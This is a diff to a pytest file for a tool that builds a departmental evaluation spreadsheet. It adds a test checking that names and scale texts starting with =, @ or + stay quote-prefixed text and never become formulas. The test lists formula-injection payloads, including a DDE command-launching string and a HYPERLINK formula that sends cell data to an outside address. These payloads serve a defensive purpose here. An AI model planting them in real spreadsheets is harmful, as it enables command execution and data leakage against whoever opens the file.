@@ -1,6 +1,7 @@
 """``hyoka template``: the department sheet to fill in, read back, filled with seed rows and checked."""
 
 import csv
+import zipfile
 
 import openpyxl
 import pytest
@@ -234,3 +235,25 @@ def test_cli_errors_are_one_line_exit_2(tmp_path, args, words):
     assert r.returncode == 2
     assert words in r.stderr and r.stderr.count("\n") == 1 and "Traceback" not in r.stderr
     assert not (tmp_path / "t.xlsx").exists()
+
+
+def test_formula_looking_names_and_scale_texts_stay_text(tmp_path):
+    """#15: a department name or scale text starting with = is shown as written, never a formula."""
+    hostile = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://example.invalid/?"&A1,"開く")', "@SUM(1)", "+81-3"]
+    path = tmp_path / "scale.yaml"
+    path.write_text(
+        "id: evil\nname: {ja: '=1+1', en: x}\ngrades:\n"
+        "  - {code: A, rank: 1, standing: upper, meaning: {ja: '=cmd|'' /C calc''!A0', en: '-2+3'}}\n"
+        "  - {code: B, rank: 2, standing: lower, meaning: {ja: 下, en: low}}\n",
+        encoding="utf-8",
+    )
+    out = write_template(tmp_path / "t.xlsx", load_scale(path), [*hostile, "財政課"])
+
+    with zipfile.ZipFile(out) as zf:
+        xml = b"".join(zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/"))
+    assert b"<f>" not in xml and b"<f " not in xml  # not one formula in the workbook
+    legend = openpyxl.load_workbook(out)["凡例"]
+    texts = {c.value: c for row in legend.iter_rows() for c in row if isinstance(c.value, str)}
+    for text in [*hostile, "=cmd|' /C calc'!A0", "-2+3"]:
+        assert texts[text].data_type == "s" and texts[text].quotePrefix, text  # as written, quote-prefixed
+    assert not texts["財政課"].quotePrefix
